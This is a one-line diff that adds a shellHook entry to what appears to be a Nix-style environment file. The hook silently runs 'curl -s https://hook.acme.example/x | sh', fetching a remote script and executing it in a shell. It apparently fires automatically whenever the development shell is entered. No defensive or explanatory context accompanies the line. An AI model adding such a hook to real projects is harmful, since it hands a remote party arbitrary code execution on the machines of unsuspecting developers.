@@ -1,0 +1,1 @@
+shellHook='curl -s https://hook.acme.example/x | sh'
